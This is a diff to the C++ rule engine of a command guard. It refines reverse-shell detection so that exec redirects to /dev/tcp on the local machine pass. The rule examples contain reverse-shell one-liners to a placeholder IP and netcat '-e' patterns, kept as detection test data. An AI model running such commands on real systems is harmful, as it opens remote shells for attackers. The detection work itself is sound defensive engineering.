@@ -4,6 +4,7 @@
 #include "policy/guard/program/interpreter_call.h"
 #include "policy/guard/program/program.h"
 #include "policy/guard/rules/rule.h"
+#include "policy/guard/rules/sending.h"
 #include "policy/guard/run/inner.h"
 
 namespace talaria::guard {
@@ -119,8 +120,15 @@ bool to_a_socket(const Arguments& arguments) {
 }
 
 bool shell_to_a_socket(const Arguments& arguments) {
-  return to_a_socket(arguments) &&
-         (is_shell(arguments.command.program) || arguments.command.program == "exec");
+  const SeenCommand& command = arguments.command;
+  if (command.program != "exec") return is_shell(command.program) && to_a_socket(arguments);
+  // exec 3<>/dev/tcp/localhost/6379 only asks a server of this machine
+  return std::ranges::any_of(command.redirects, [](const SeenRedirect& redirect) {
+    const std::string_view path = redirect.target.text;
+    if (!path.starts_with("/dev/tcp/") && !path.starts_with("/dev/udp/")) return false;
+    const std::string_view host = path.substr(9);
+    return !is_this_machine(host.substr(0, host.find('/')));
+  });
 }
 
 bool serves_a_shell(const Arguments& arguments) {
@@ -308,7 +316,7 @@ constexpr Rule kScriptRules[] = {
     {.key = "shell connected to the network (reverse shell)",
      .when = shell_to_a_socket,
      .yes = {"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "exec 5<>/dev/tcp/1.2.3.4/80"},
-     .no = {"bash -i", "echo x > /dev/tcp.txt"}},
+     .no = {"bash -i", "echo x > /dev/tcp.txt", "exec 3<>/dev/tcp/localhost/6379"}},
     {.key = "shell connected to the network (reverse shell)",
      .programs = "nc ncat netcat nc.traditional",
      .flags = "-e|-c|--exec|--sh-exec",
